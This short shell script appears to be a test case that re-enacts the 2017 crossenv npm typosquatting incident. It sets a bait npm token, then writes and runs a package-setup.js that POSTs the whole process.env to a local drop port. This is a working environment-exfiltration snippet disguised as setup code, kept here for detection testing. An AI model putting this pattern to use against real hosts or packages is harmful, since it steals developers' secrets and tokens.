# incident: crossenv (npm, 2017): a misspelt name sends process.env
# finding: secret-sent
# needs: node
export NPM_TOKEN=npm_baitbaitbaitbaitbaitbaitbaitbaitbait
cat > package-setup.js <<'JS'
const http = require('http');
const data = JSON.stringify(process.env);
http.request({host: '127.0.0.1', port: process.env.DROP_PORT, path: '/log/', method: 'POST'}).end(data);
JS
node package-setup.js
